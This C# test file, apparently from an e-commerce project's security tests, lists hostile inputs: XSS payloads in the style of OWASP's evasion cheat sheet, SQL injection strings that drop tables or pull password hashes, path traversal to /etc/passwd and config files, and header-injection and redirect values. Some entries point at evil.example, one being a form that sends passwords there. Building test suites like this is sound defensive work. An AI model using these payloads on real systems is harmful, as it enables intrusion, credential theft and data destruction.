namespace CommerceGuard.Tests.Hostile;

/// <summary>
/// What an attacker types. The cross-site scripting entries follow the kinds of trick in OWASP's
/// XSS filter evasion cheat sheet (case games, entities, broken quotes, event handlers, other
/// schemes, SVG and MathML, mutation); the rest probe SQL, paths, headers and encodings.
/// </summary>
public static class HostileStrings
{
    public static readonly string[] Xss =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
        "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<BODY ONLOAD=alert('XSS')>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<base href=\"javascript:alert(1)//\">",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">click</a>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>@import 'http://evil.example/xss.css';</style>",
        "<form action=\"https://evil.example/steal\"><input name=password></form>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[click][x]",
        "{{constructor.constructor('alert(1)')()}}",
        "javascript:alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ];

    public static readonly string[] SqlInjection =
    [
        "' OR '1'='1",
        "' OR 1=1 --",
        "\" OR \"\"=\"",
        "'; DROP TABLE \"Terms\"; --",
        "1; DELETE FROM Terms",
        "' UNION SELECT \"PasswordHash\" FROM \"AspNetUsers\" --",
        "1' AND SLEEP(5) --",
        "'; SELECT pg_sleep(5); --",
        "%27%20OR%201%3D1",
        "admin'--",
    ];

    /// <summary>Ways out of a folder, for addresses and file names.</summary>
    public static readonly string[] PathTraversal =
    [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2f..%2fappsettings.json",
        "..%252f..%252fappsettings.json",
        "....//....//etc/passwd",
        "/etc/passwd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "..%5c..%5cappsettings.json",
    ];

    /// <summary>Line breaks meant to end a header and start another.</summary>
    public static readonly string[] HeaderInjection =
    [
        "%0d%0aSet-Cookie:%20injected=1",
        "%0aSet-Cookie:%20injected=1",
        "x%0d%0aLocation:%20https://evil.example",
        "%E5%98%8A%E5%98%8DSet-Cookie:%20injected=1",
        "/%0d%0aSet-Cookie:%20injected=1",
        "//evil.example",
        "https://evil.example/admin",
        "/\\evil.example",
    ];

    /// <summary>Percent-encoded bytes that are not UTF-8, and null bytes.</summary>
    public static readonly string[] BrokenEncodings =
    [
        "%FF%FE", "%C3%28", "%A0%A1", "%E2%28%A1", "%F0%28%8C%BC", "%ED%A0%80", "%C0%AF", "a%00b", "%00", "%F4%90%80%80",
    ];

    public static IEnumerable<string> Everything => [.. Xss, .. SqlInjection, .. PathTraversal];
}
